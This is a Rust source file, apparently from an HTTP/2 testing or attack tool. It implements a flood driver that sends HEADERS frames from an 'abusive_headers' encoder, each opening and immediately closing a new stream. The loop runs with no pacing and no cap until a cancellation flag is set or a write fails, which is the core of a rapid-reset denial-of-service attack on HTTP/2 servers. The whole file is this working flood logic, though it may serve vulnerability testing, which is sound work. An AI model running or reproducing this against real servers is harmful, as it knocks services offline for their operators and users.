use tokio::io::{AsyncWrite, AsyncWriteExt};

use crate::detector::CancellationFlag;
use crate::error::{Error, Result};
use crate::frame::{FrameEncoder, MAX_STREAM_ID};

/// Client-initiated stream identifiers: odd, strictly increasing, starting at 1.
#[derive(Debug, Clone)]
pub struct StreamIds {
    next: Option<u32>,
}

impl StreamIds {
    pub fn new() -> Self {
        Self { next: Some(1) }
    }
}

impl Default for StreamIds {
    fn default() -> Self {
        Self::new()
    }
}

impl Iterator for StreamIds {
    type Item = u32;

    fn next(&mut self) -> Option<u32> {
        let id = self.next?;
        self.next = id.checked_add(2).filter(|n| *n <= MAX_STREAM_ID);
        Some(id)
    }
}

/// Writes HEADERS frames that open and immediately close a new stream, as
/// fast as the transport accepts them.
///
/// There is no pacing and no iteration cap. The only exit is the
/// cancellation flag, checked once before every frame, or a write error.
/// Frames already handed to the transport when the peer closes are expected.
pub struct FloodDriver {
    encoder: FrameEncoder,
    ids: StreamIds,
    frames_written: u64,
    last_stream_id: u32,
}

impl FloodDriver {
    pub fn new(encoder: FrameEncoder) -> Self {
        Self {
            encoder,
            ids: StreamIds::new(),
            frames_written: 0,
            last_stream_id: 0,
        }
    }

    pub fn frames_written(&self) -> u64 {
        self.frames_written
    }

    /// Stream id of the last fully written frame, 0 before the first.
    pub fn last_stream_id(&self) -> u32 {
        self.last_stream_id
    }

    /// Runs until `cancel` is observed set (`Ok`) or the transport fails (`Err`).
    pub async fn run<W>(&mut self, writer: &mut W, cancel: &CancellationFlag) -> Result<()>
    where
        W: AsyncWrite + Unpin,
    {
        loop {
            if cancel.is_set() {
                return Ok(());
            }
            let stream_id = self.ids.next().ok_or(Error::StreamIdsExhausted {
                last: self.last_stream_id,
            })?;
            writer
                .write_all(self.encoder.abusive_headers(stream_id))
                .await?;
            self.frames_written += 1;
            self.last_stream_id = stream_id;
        }
    }
}
